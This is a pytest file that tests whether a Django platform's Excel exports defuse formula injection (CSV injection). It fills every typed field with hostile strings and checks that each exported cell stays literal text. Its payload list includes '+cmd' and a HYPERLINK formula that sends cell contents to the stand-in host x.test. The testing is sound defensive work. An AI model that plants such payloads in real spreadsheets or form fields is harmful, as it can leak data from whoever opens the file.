"""No export runs a formula: hostile text typed into any field comes out of every .xlsx the
platform writes as text, intact, flagged to stay literal (OWASP CSV injection).

The world of the isolation suite (every area's records of community A) is built, then every
free-text field of every record of ours is overwritten with a hostile string, and every export
is downloaded by the user who owns it."""

from __future__ import annotations

import io
from itertools import cycle

import pytest
from django.apps import apps
from django.db import models
from openpyxl import load_workbook

from dangjian.core import xlsx
from tests.api.endpoints import LIST_PAGES, OBJECT_PAGES
from tests.api.isolation import page_names, send

HOSTILE = ("=1+1", "+cmd", "-2", "@SUM(A1)", "\t=1", '=HYPERLINK("http://x.test/?a="&A1,"点")')

#: fields that drive the platform's logic (tree paths, codes, keys, hashes, stored files) rather
#: than hold what a person typed
NOT_TYPED = {"path", "code", "slug", "prefix", "key_hash", "suffix", "username", "password"}


def _typed_fields(model: type[models.Model]) -> list[models.Field]:
    out = []
    for f in model._meta.concrete_fields:
        if not isinstance(f, models.CharField | models.TextField):
            continue
        if isinstance(f, models.FileField) or f.choices or f.unique or f.primary_key:
            continue
        if f.name in NOT_TYPED or f.name.endswith(("_hash", "_key", "_enc", "_index", "_token")):
            continue
        out.append(f)
    return out


def _poison_every_typed_field() -> int:
    """Overwrite each free-text field of every record of ours; returns how many fields."""
    values = cycle(HOSTILE)
    n = 0
    for model in apps.get_models():
        if not model.__module__.startswith("dangjian.") or model.__name__ == "AuditEntry":
            continue
        for f in _typed_fields(model):
            value = next(values)
            if f.max_length is not None and len(value) > f.max_length:
                value = next(v for v in HOSTILE if len(v) <= f.max_length)
            model._base_manager.update(**{f.attname: value})
            n += 1
    return n


def _exports() -> list:
    """Every download the isolation tables name that may be a workbook (pages, GET)."""
    return [
        ep
        for ep in [*OBJECT_PAGES, *LIST_PAGES]
        if getattr(ep, "method", "GET") == "GET" and ep.name in _export_names()
    ]


def _export_names() -> set[str]:
    return {n for n in page_names() if "export" in n} | {"meetings:ledger", "cobuild:assessment"}


def test_the_unit_rule_at_its_boundaries():
    for text in HOSTILE:
        assert xlsx.looks_like_formula(text)
    for text in ("张三", " =1", "1-2", "a@b.cn", "", "（=）"):
        assert not xlsx.looks_like_formula(text)


@pytest.mark.django_db
def test_every_export_writes_hostile_text_as_text(cast, world, client_for):
    assert _poison_every_typed_field() > 50
    seen_names: set[str] = set()
    for ep in _exports():
        who = getattr(cast, getattr(ep, "owner", "comm_a_sec"))
        c = client_for(who)
        r = send(c, ep, world) if hasattr(ep, "method") else c.get(world.fill(ep.path))
        assert r.status_code == 200, (str(ep), r.status_code)
        raw = b"".join(r.streaming_content) if r.streaming else r.content
        if "spreadsheetml" not in r["Content-Type"]:
            continue  # a page that asks first which organisation (the same name is hit again)
        wb = load_workbook(io.BytesIO(raw))
        exact = 0
        for ws in wb.worksheets:
            for line in ws.iter_rows():
                for c in line:
                    assert c.data_type != "f", (str(ep), c.coordinate, c.value)
                    if isinstance(c.value, str) and xlsx.looks_like_formula(c.value):
                        assert c.quotePrefix, (str(ep), c.coordinate, c.value)
                    exact += c.value in HOSTILE
        assert exact, f"{ep}: no hostile value reached the export intact"
        seen_names.add(ep.name)
    assert seen_names == _export_names()


def test_a_workbook_built_in_normal_mode_is_defused_on_save():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1", "+cmd", "正常", 3])
    wb.active["B2"] = '=HYPERLINK("http://x.test","点")'
    back = load_workbook(xlsx.save(wb)).active
    assert [c.data_type for c in back[1]] == ["s", "s", "s", "n"]
    assert back["A1"].value == "=1+1" and back["A1"].quotePrefix
    assert back["B2"].data_type == "s" and back["B2"].value.startswith("=HYPERLINK")
    assert not back["C1"].quotePrefix
